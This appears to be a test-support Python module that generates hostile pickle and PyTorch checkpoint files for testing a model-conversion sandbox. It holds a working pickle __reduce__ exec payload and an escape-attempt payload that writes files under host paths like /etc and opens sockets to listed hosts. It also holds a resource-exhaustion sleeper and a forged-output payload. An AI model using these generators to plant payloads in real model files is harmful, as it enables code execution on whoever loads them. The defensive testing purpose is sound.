"""Generators of hostile artifacts: benign but observable payloads (markers, connection attempts,
resource use). Nothing here is ever loaded on the host: the functions only *write* files.

Each payload runs Python source through ``exec`` from a pickle ``__reduce__``, the primitive of
every pickle / joblib / PyTorch code-execution CVE (CVE-2024-37052 … 37060, CVE-2024-37059).
"""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path


class _Exec:
    """Pickles to ``exec(source)``: the classic reduce payload."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def reduce_pickle(source: str) -> bytes:
    return pickle.dumps(_Exec(source), protocol=4)


def escape_attempt_source(canary: Path, ports: list[int], hosts: list[str]) -> str:
    """Tries to write a host file and to reach listeners on the host; records nothing itself."""
    return f"""
import os, socket
for path in ({str(canary)!r}, "/airlock/in/pwned", "/pwned", "/etc/pwned"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write("escaped")
    except OSError:
        pass
for host in {hosts!r}:
    for port in {ports!r}:
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"escaped")
            s.close()
        except OSError:
            pass
"""


def malicious_pickle(path: Path, canary: Path, ports: list[int], hosts: list[str]) -> Path:
    path.write_bytes(reduce_pickle(escape_attempt_source(canary, ports, hosts)))
    return path


def sleeper_pickle(path: Path, seconds: int = 10**6) -> Path:
    path.write_bytes(reduce_pickle(f"import time\ntime.sleep({seconds})"))
    return path


def malicious_torch_zip(path: Path, source: str) -> Path:
    """A PyTorch-style zip checkpoint whose ``data.pkl`` is a reduce payload (CVE-2024-37059)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", reduce_pickle(source))
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/byteorder", "little")
    path.write_bytes(buf.getvalue())
    return path


def fake_success_source(sleep_seconds: float = 0.0, tensor: str = "x") -> str:
    """Sleeps, writes a valid one-tensor safetensors output itself, and exits 0: a "converter"
    fully controlled by the artifact. The broker must validate it like any other output."""
    return f"""
import json, os, struct, time
time.sleep({sleep_seconds!r})
header = json.dumps({{{tensor!r}: {{"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}}})
header = header.encode() + b" " * (-len(header) % 8)
with open("/airlock/out/model.safetensors", "wb") as fh:
    fh.write(struct.pack("<Q", len(header)) + header + b"\\0\\0\\0\\0")
os._exit(0)
"""


def fake_success_pickle(path: Path, sleep_seconds: float = 0.0, tensor: str = "x") -> Path:
    path.write_bytes(reduce_pickle(fake_success_source(sleep_seconds, tensor)))
    return path
